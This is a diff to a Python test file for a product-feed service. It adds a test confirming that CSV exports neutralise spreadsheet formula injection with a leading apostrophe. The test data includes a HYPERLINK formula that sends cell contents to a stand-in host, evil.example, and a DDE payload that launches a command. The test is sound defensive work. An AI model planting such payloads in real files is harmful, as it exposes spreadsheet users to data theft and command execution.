@@ -21,6 +21,7 @@ import pytest
 
 from auctera.domain import ids as idfmt
 from auctera.domain.programs import ApprovalStatus
+from auctera.domain.reports import spreadsheet_text
 from auctera.domain.tracking import click_url, parse_link
 from auctera.services import feed_formats
 from auctera.services.feed_files import (
@@ -129,7 +130,26 @@ def test_the_served_feed_is_the_row_by_row_rendering_in_every_format_and_variant
         rows = list(
             csv.DictReader(io.StringIO(_download(world, _signed(world, url, epi), format="CSV").text))
         )
-        assert rows == as_text
+        assert rows == [{k: spreadsheet_text(v) for k, v in row.items()} for row in as_text]
+
+
+def test_a_csv_feed_shows_a_merchants_formulas_as_text(world: World) -> None:
+    """A merchant's product name is its publishers' to open in a spreadsheet: one that would run
+    as a formula there (OWASP "CSV injection") gets a leading ' in the CSV file only."""
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2"]
+    rows = [product_row(f"f{n}", name) for n, name in enumerate(names)]
+    rows.append(product_row("plain", "Plain name"))
+    world.net.set_feeds(
+        world.program_id, (world.net.retailer(world.advertiser, "Formulas", "f.site.com", rows),)
+    )
+    url = _feed_url(world)
+    served = list(csv.DictReader(io.StringIO(_download(world, url, format="CSV").text)))
+    by_sku = {row["productUrl"].rsplit("/", 1)[1]: row for row in served}
+    assert [by_sku[f"f{n}"]["productName"] for n in range(len(names))] == ["'" + name for name in names]
+    assert by_sku["plain"]["productName"] == "Plain name"
+    assert by_sku["plain"]["productPrice"] == "129.5"  # numbers are not text: never prefixed
+    xml = ET.fromstring(_download(world, url, format="XML").content)
+    assert names[0] in [p.findtext("productName") for p in xml.findall("product")]  # XML: as sent
 
 
 def _as_text(value: Any) -> str:
